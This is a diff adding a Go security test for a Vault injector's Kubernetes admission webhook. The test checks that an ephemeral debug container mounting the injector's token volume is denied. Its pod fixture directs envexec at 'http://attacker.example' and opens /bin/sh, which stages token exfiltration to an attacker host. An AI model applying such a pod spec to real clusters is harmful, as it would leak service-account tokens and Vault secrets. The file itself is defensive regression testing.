@@ -1,0 +1,36 @@
+package webhook_test
+
+import (
+	"testing"
+
+	admissionv1 "k8s.io/api/admission/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+)
+
+// TestAttackEphemeralContainerMountsOurToken adds, to a running injected pod, an ephemeral
+// container (kubectl debug; the pods/ephemeralcontainers subresource, an UPDATE) that mounts
+// the injector's token volume and runs envexec with a Vault address of its own choosing.
+// docs/security.md says the token "is mounted only into wrapped containers" and a container
+// that "mounts our volumes ... or whose command is envexec, is denied": the webhook answers
+// every UPDATE "only pod creation is mutated", and the chart registers CREATE on pods only,
+// so this request is never even sent to it.
+func TestAttackEphemeralContainerMountsOurToken(t *testing.T) {
+	t.Parallel()
+	h, _ := newHandler(t)
+	raw := []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"api","namespace":"shop",
+ "annotations":{"vault-injector.io/status":"injected"}},
+ "spec":{"serviceAccountName":"api","containers":[{"name":"api","image":"example/api:1","command":["/app/api"]}],
+ "volumes":[{"name":"vault-injector-bin","emptyDir":{"medium":"Memory"}},
+  {"name":"vault-injector-token","projected":{"sources":[{"serviceAccountToken":{"audience":"vault","path":"token"}}]}}],
+ "ephemeralContainers":[{"name":"debug","image":"example/tools:1",
+  "command":["/vault-injector/envexec","--","/bin/sh"],
+  "env":[{"name":"ENVEXEC_VAULT_ADDR","value":"http://attacker.example"}],
+  "volumeMounts":[{"name":"vault-injector-token","mountPath":"/peek"},{"name":"vault-injector-bin","mountPath":"/vault-injector"}]}]}}`)
+	req := request(admissionv1.Update, raw)
+	req.SubResource = "ephemeralcontainers"
+	req.Kind = metav1.GroupVersionKind{Version: "v1", Kind: "Pod"}
+	resp := h.Handle(t.Context(), req)
+	if resp.Allowed {
+		t.Fatalf("an ephemeral container mounting the injector's token volume and running envexec was allowed (%q)", resp.Result.Message)
+	}
+}
